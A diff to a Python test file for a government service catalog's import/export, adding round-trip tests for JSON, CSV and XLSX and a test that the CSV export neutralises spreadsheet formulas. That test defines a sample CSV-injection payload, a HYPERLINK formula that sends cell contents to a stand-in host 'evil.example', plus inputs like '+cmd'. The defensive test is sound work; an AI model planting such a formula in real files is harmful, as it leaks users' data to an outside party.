@@ -13,7 +13,8 @@ from tests.factories import content_dict, make_actor, make_agency, make_item
 from tongban.catalog import service
 from tongban.catalog.api_exchange import router
 from tongban.catalog.exchange import export_items, header, import_items
-from tongban.catalog.models import Agency, Attachment, DirectoryEntry, ItemFacet, ItemVersion, ServiceItem
+from tongban.catalog.models import Agency, Attachment, ItemFacet, ItemVersion, ServiceItem
+from tongban.catalog.schemas import ItemContent
 from tongban.core.errors import InvalidInput
 
 PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 120  # > 32,000 base64 characters: split over XLSX rows
@@ -56,7 +57,7 @@ def build_catalog(db_session, clock) -> dict:
 
 def empty_items(db_session, *, keep_agencies_and_files: bool) -> None:
     db_session.execute(update(ServiceItem).values(live_version_id=None, parent_id=None, alternative_item_id=None))
-    for table in (ItemFacet, ItemVersion, ServiceItem, DirectoryEntry):
+    for table in (ItemFacet, ItemVersion, ServiceItem):  # the directory list is not part of the items' exchange
         db_session.execute(delete(table))
     if not keep_agencies_and_files:
         from tongban.accounts.models import StaffToken
@@ -223,3 +224,121 @@ def test_export_and_import_api(client, db_session, clock):
                           headers={"Authorization": f"Bearer {admin}"})
     assert invalid.status_code == 422 and invalid.json()["error"]["code"] == "IMPORT_INVALID"
     assert "第 1 个事项" in invalid.json()["error"]["details"][0]
+
+
+# ---------------------------------------------------------------- issue 25 §4: structured fields, formulas
+
+
+def full_content(sample: str) -> dict:
+    """An item with every optional element given a value other than its default, nested ones too."""
+    content = content_dict(
+        aliases=["开饭馆"],
+        materials=[
+            {"key": "m1", "name": "食品经营许可申请书", "forms": ["original", "electronic"], "necessity": "conditional",
+             "condition": "委托办理时", "source": "申请人自备", "original_count": 2, "copy_count": 1, "paper_size": "A3",
+             "e_copy_required": True, "e_form": True, "sample_sha256": sample, "template_sha256": sample,
+             "acceptance_standard": "签字盖章", "notes": "须知", "basis": ["b1"], "exemptions": ["pledge", "licence"],
+             "licence_type": "营业执照"},
+        ],
+        steps=[{"name": "受理", "actor": "acceptor", "description": "窗口受理", "review_points": ["齐全"],
+                "time_limit_days": 0.5, "time_note": "半日"}],
+        limit_unit="natural_day", limit_note="不含公示时间", case_kind="instant",
+        fees=[{"name": "工本费", "rule": "per_unit", "amount_fen": 1000, "unit": "本", "basis": "财税〔2016〕79号",
+               "note": "按本收取", "units_field": "copies"}],
+        special_procedures=[{"name": "听证", "max_days": 20, "note": "申请人要求时"}],
+        result={"name": "食品经营许可证", "kind": "证照", "sample_sha256": sample, "validity": "5年", "delivery": ["post"],
+                "licence_type": "食品经营许可证", "validity_years": 5},
+        handling_form="online", channels=["web", "mobile"], online_url="https://www.sczwfw.gov.cn/jiq/front/item/bszn",
+        handling_scope="cross_province", review_standard="符合《食品经营许可管理办法》",
+        review_rules={"posts": [{"post": "reviewer", "time_limit_days": 2, "method": "书面审查"}], "methods": ["实地核查"],
+                      "on_the_spot": True},
+        booking=True, online_payment=True, logistics=True, max_visits=0, on_site_verification=True,
+        consult_address="咨询台", complaint_email="ts@ga.gov.cn", quantity_limit="每人一份", intermediary_services="无",
+        prerequisites=["SCJG-0000"], faqs=[{"question": "多久办好？", "answer": "当场办结"}],
+        form=[{"key": "copies", "label": "份数", "kind": "number", "required": False, "max_length": 3, "prefill": "",
+               "hint": "1–9"},
+              {"key": "way", "label": "领取方式", "kind": "choice", "options": ["自取", "邮寄"], "prefill": "person.name",
+               "hint": "选一项"}],
+        pledge={"obligations": "如实申报", "content": "本人承诺所填信息真实", "liability": "虚假承诺撤销许可并记入信用记录"},
+        parallel_agencies=["SCJG"], renewal=True,
+    )
+    content["legal_basis"][0]["kind"] = "administrative_regulation"
+    content["conditions"][0]["basis"] = ["b1"]
+    return content
+
+
+@pytest.mark.req("CAT-14")
+@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
+def test_an_item_with_every_optional_field_filled_round_trips(db_session, clock, fmt):
+    """Issue 25 §4: `pledge` broke the XLSX export (500) and was a Python repr in the CSV."""
+    agency = make_agency(db_session, name="广安市市场监督管理局", region_code="511600", level="city")
+    sample = _store(db_session, clock, PNG, "样本.png", "image/png")
+    content = full_content(sample)
+    defaults = ItemContent.model_validate({k: content[k] for k in ("name", "item_type", "level", "audiences")})
+    filled = ItemContent.model_validate(content)
+    optional = [k for k, info in ItemContent.model_fields.items() if not info.is_required()]
+    assert [k for k in optional if getattr(filled, k) == getattr(defaults, k)] == []
+    make_item(db_session, clock, agency=agency, code="SCJG-0009", **{k: v for k, v in content.items() if k != "level"})
+    db_session.commit()
+    before = json.loads(export_items(db_session=db_session, fmt="json"))
+
+    exported = export_items(db_session=db_session, fmt=fmt)
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
+        assert json.loads(rows[1][rows[0].index(header("pledge"))]) == content["pledge"]
+    if fmt == "xlsx":
+        sheet = xlsx_sheets(exported)["事项"]
+        assert json.loads(sheet[1][sheet[0].index(header("pledge"))]) == content["pledge"]
+    empty_items(db_session, keep_agencies_and_files=fmt == "csv")
+    report = import_items(db_session=db_session, clock=clock, data=exported, fmt=fmt, by="导入测试")
+    db_session.commit()
+    assert (report.created, report.errors) == (1, [])
+    assert json.loads(export_items(db_session=db_session, fmt="json")) == before
+
+
+@pytest.mark.req("CAT-14")
+def test_an_item_without_a_pledge_exports_null_and_imports_back(db_session, clock):
+    agency = make_agency(db_session)
+    make_item(db_session, clock, agency=agency)
+    make_item(db_session, clock, agency=agency, name="食品经营许可（变更）")
+    db_session.commit()
+    exported = export_items(db_session=db_session, fmt="csv")
+    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
+    assert {row[rows[0].index(header("pledge"))] for row in rows[1:]} == {"null"}
+    sheet = xlsx_sheets(export_items(db_session=db_session, fmt="xlsx"))["事项"]
+    assert {row[sheet[0].index(header("pledge"))] for row in sheet[1:]} == {"null"}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+@pytest.mark.req("DATA-03")
+def test_the_open_data_csv_neutralises_formulas_and_imports_them_back(db_session, clock):
+    """Issue 25 §4: `=HYPERLINK(...)` went into the catalog CSV as is, a live formula in Excel."""
+    agency = make_agency(db_session, name="广安市市场监督管理局", region_code="511600", level="city")
+    make_item(db_session, clock, agency=agency, code="SCJG-0010", name=FORMULA, address="@SUM(A1)", hours="-1+1",
+              aliases=["+cmd", "'=already quoted"])
+    db_session.commit()
+    before = json.loads(export_items(db_session=db_session, fmt="json"))
+    exported = export_items(db_session=db_session, fmt="csv")
+    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
+    cells = dict(zip(rows[0], rows[1]))
+    assert cells[header("name")] == "'" + FORMULA
+    assert (cells[header("address")], cells[header("hours")]) == ("'@SUM(A1)", "'-1+1")
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
+
+    empty_items(db_session, keep_agencies_and_files=True)
+    import_items(db_session=db_session, clock=clock, data=exported, fmt="csv", by="导入测试")
+    db_session.commit()
+    assert json.loads(export_items(db_session=db_session, fmt="json")) == before
+
+
+@pytest.mark.req("CAT-14")
+def test_the_xlsx_export_api_answers_for_an_item_with_a_pledge(client, db_session, clock):
+    agency = make_agency(db_session)
+    make_item(db_session, clock, agency=agency, pledge={"obligations": "如实申报", "content": "承诺真实", "liability": "依法担责"})
+    db_session.commit()
+    response = client.get("/api/v1/catalog/export?format=xlsx")
+    assert response.status_code == 200
+    sheet = xlsx_sheets(response.content)["事项"]
+    assert json.loads(sheet[1][sheet[0].index(header("pledge"))])["content"] == "承诺真实"
